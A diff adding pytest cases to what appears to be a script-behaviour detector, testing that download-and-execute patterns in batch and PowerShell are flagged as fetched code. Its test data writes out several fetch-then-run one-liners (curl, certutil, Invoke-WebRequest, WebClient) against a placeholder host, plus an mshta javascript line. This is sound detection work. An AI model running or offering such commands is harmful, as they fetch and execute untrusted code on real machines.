@@ -77,6 +77,36 @@ def _of(found: FileFacts) -> set[tuple[str, str | None]]:
     return facts
 
 
+_RUN = {
+    "a program": "curl -o C:\\x.exe https://h.example/x\nstart C:\\x.exe",
+    "a script for an interpreter": "certutil -urlcache -f https://h.example/x a.py\npython a.py",
+    "in one line": "curl -o x.exe https://h.example/x && .\\x.exe",
+}
+
+
+@pytest.mark.parametrize("script", _RUN.values(), ids=_RUN)
+def test_a_file_that_is_fetched_and_then_run_is_fetched_code(script: str) -> None:
+    assert ("code.fetched", "h.example") in _facts(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "Invoke-WebRequest https://h.example/x -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe",
+        "(New-Object Net.WebClient).DownloadFile('https://h.example/x', 'x.exe')\n& .\\x.exe",
+        "$f = 'a.ps1'; iwr https://h.example/x -o $f; . $f",
+    ],
+)
+def test_powershell_runs_what_it_has_fetched(script: str) -> None:
+    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))
+
+    assert ("code.fetched", "h.example") in _of(found)
+
+
+def test_a_file_that_is_run_before_it_is_fetched_is_none() -> None:
+    assert not any(name == "code.fetched" for name, _ in _facts("x.exe\ncurl -o x.exe https://h.example/x"))
+
+
 _ROWS = [row.partition(" => ") for row in _DOES.strip().splitlines()]
 
 
@@ -100,6 +130,10 @@ _SILENT = {
     "a remark": ("rem remote /s a.exe", {"process.exec"}),
     "a remark alone": ("REM", {"process.exec"}),
     "a page of one's own disk": ("start index.html", {"net.outbound"}),
+    "errors that go where the output goes": ("curl h.example >nul 2>&1", {"process.exec 1"}),
+    "a message among the errors": ("echo a >&2", {"process.exec"}),
+    "a bracket that nobody opened": ("mshta javascript:a=(b(1)).d();close();", {"process.exec close("}),
+    "a variable that another reader does not know": ("echo %_%", {"env.read"}),
     "the state of a service": ("sc query a", {"privilege", "persistence"}),
 }
 
